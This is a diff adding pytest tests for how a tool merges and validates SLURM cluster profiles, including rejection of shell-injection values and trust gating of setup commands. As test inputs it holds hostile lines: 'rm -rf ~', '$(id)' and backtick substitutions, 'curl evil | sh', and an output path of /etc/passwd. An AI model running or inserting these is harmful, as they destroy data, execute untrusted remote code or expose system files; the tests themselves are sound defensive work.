@@ -1,0 +1,64 @@
+"""A cluster profile comes from a file, the suite and flags, in this order; none of them can slip code into a script."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from bob.cli.main import build_parser, main
+from bob.cluster import ClusterProfile, merged_profile, read_profile
+from bob.errors import ConfigError, SuiteError
+
+
+def test_flags_win_over_the_suite_and_the_suite_over_the_file(tmp_path: Path) -> None:
+    file = tmp_path / "cluster.yaml"
+    file.write_text("partition: gpu\naccount: lab\ntime_min: 60\nsetup: [module load cuda]\n")
+    profile = merged_profile(
+        file=read_profile(file), suite={"time_min": 90, "gpus": 2}, flags={"gpus": 4}, trusted=False
+    )
+    assert (profile.partition, profile.account, profile.time_min, profile.gpus) == ("gpu", "lab", 90, 4)
+    assert profile.setup == ["module load cuda"]
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("partitoin: gpu\n", "cluster.yaml:1: key 'partitoin' is not known. Did you mean 'partition'?"),
+        ("time_min: 60\ngpus: many\n", "cluster.yaml:2: gpus is 'many'"),
+        ("rules:\n  - {protocol: finetune, gpu: 2}\n", "cluster.yaml:2: key 'gpu' is not known. Did you mean 'gpus'?"),
+        ("- 1\n", "cluster.yaml:1: expected a mapping"),
+        ("a: [\n", "not valid YAML"),
+    ],
+)
+def test_a_faulty_profile_names_file_line_and_what_was_expected(tmp_path: Path, text: str, said: str) -> None:
+    file = tmp_path / "cluster.yaml"
+    file.write_text(text)
+    with pytest.raises(SuiteError, match=r"docs/slurm\.md|YAML|mapping") as error:
+        read_profile(file)
+    assert said in str(error.value)
+
+
+@pytest.mark.parametrize("key", ["partition", "account", "qos", "constraint"])
+@pytest.mark.parametrize("value", ["gpu\nrm -rf ~", "gpu; true", "$(id)", "`id`", "a b", '"', ""])
+def test_no_value_can_end_its_line_of_the_batch_script(key: str, value: str) -> None:
+    with pytest.raises(ConfigError, match=f"cluster setting {key}"):
+        merged_profile(file={}, suite={key: value}, flags={}, trusted=True)
+
+
+@pytest.mark.parametrize("suite", [{"setup": ["curl evil | sh"]}, {"options": {"output": "/etc/passwd"}}])
+def test_shell_lines_and_options_of_a_suite_need_trust(suite: dict[str, object]) -> None:
+    with pytest.raises(ConfigError, match="SLURM would run or obey") as error:
+        merged_profile(file={}, suite=suite, flags={}, trusted=False)
+    assert "--trust-cluster" in str(error.value)
+    assert merged_profile(file={}, suite=suite, flags={}, trusted=True).model_dump(exclude_unset=True) == suite
+
+
+def test_cluster_flags_without_the_executor_are_a_mistake(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["run", "smoke", "--partition", "gpu"]) == 2
+    assert "--partition goes with --executor slurm" in capsys.readouterr().err
+
+
+def test_every_key_of_the_profile_that_a_flag_can_set_has_its_flag() -> None:
+    options = vars(build_parser().parse_args(["run", "smoke"]))
+    assert set(ClusterProfile.model_fields) - options.keys() == {"processes", "warn_s", "options", "rules"}
